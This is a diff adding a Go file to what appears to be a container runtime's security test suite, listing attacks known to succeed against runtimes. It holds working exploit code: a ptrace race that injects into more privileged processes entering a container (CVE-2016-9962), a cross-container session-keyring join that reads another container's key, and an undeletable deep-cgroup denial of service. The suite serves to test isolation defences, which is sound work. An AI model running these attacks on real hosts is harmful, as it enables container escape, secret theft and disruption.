@@ -1,0 +1,115 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	goruntime "runtime"
+	"strings"
+
+	"github.com/rtcontainers/rt/internal/defence"
+	"golang.org/x/sys/unix"
+)
+
+// openAttacks are known to succeed, against the other runtimes, too. They are tried
+// with -open only; docs/security.md tells about them.
+var openAttacks = []attack{
+	tracedExec("exec-traced-filter", "the same while the process has CAP_SYS_ADMIN, to load a filter without no_new_privs", func(b *bundle) {
+		b.spec.Process.NoNewPrivileges = false
+		b.filter("swapon")
+	}),
+	{
+		name:     "keyring-by-name",
+		about:    "a container joins the session keyring of another one, whose id it knows, by its name",
+		kinds:    []string{"keyrings"},
+		defences: []defence.Name{defence.Keyring},
+		mount: func(t *try) string {
+			t.ownKeyring()
+			a := t.bundle("sh", "-c", "/bin/attacker key-add && touch /added; sleep 100")
+			a.start()
+			t.await("the key", func() bool { return fileExists(a.root("added")) })
+			return tell(t.attacker("key-join", "_ses."+a.id).run(), secret, "read a key of another container")
+		},
+	},
+	{
+		name:  "cgroups-nested-deep",
+		about: "a container makes cgroups below its own whose paths are longer than a path may be, and can never be deleted",
+		kinds: []string{"cgroups"},
+		view:  "v2",
+		mount: func(t *try) string {
+			b := t.script("cd /sys/fs/cgroup && for i in $(seq 30); do mkdir " + strings.Repeat("x", 200) + " && cd " + strings.Repeat("x", 200) + " || exit 1; done; echo " + gained)
+			b.mountAt("/sys/fs/cgroup").Options = []string{"nosuid", "noexec", "nodev"}
+			b.save()
+			r := b.do("run", "--keep", "--bundle", b.dir, b.id)
+			t.logf("%s", r.stdout)
+			d := b.do("delete", "--force", b.id)
+			if d.code != 0 {
+				return "it cannot be deleted: " + shorten(d.stderr)
+			}
+			if fileExists("/sys/fs/cgroup/" + b.id) {
+				return "its cgroup is left"
+			}
+			return ""
+		},
+	},
+}
+
+// tracedExec is about a container with CAP_SYS_PTRACE, which may trace what has more
+// rights than itself.
+func tracedExec(name, about string, change func(b *bundle)) attack {
+	return attack{
+		name: name, about: about, kinds: []string{"CVE-2016-9962"}, race: true,
+		defences: []defence.Name{defence.WaitingCapabilities},
+		mount: func(t *try) string {
+			b := t.attacker("trace-others", "/attacked")
+			b.capabilities("CAP_SYS_PTRACE")
+			change(b)
+			b.start()
+			for i := range t.times(100) {
+				b.exec("true")
+				if fileExists(b.root("attacked")) {
+					return fmt.Sprintf("the process made a device node, in try %d", i+1)
+				}
+				if fileExists(b.root("named")) {
+					return fmt.Sprintf("the process had CAP_SYS_ADMIN, in try %d", i+1)
+				}
+			}
+			return ""
+		},
+	}
+}
+
+func keyJoin(args []string) error {
+	id, err := unix.KeyctlJoinSessionKeyring(args[0])
+	if err != nil {
+		return fmt.Errorf("join: %w", err)
+	}
+	fmt.Println("joined", id)
+	return keyRead(nil)
+}
+
+// traceOthers attaches to the first new process that has more rights than this one,
+// and lets it make a device node.
+func traceOthers(args []string) error {
+	goruntime.LockOSThread()
+	own := statusField(os.Getpid(), "CapPrm")
+	for {
+		for pid := 2; pid < 400; pid++ {
+			if unix.PtraceSeize(pid) != nil {
+				continue
+			}
+			if statusField(pid, "CapPrm") > own {
+				if err := injectSeized(pid, args[0]); err == nil {
+					return nil
+				}
+				if name, err := os.Hostname(); err == nil && name == injectedName {
+					return os.WriteFile("/named", nil, 0o644)
+				}
+			}
+			// Only a stopped one can be let go.
+			_ = unix.PtraceInterrupt(pid)
+			var ws unix.WaitStatus
+			_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
+			_ = unix.PtraceDetach(pid)
+		}
+	}
+}
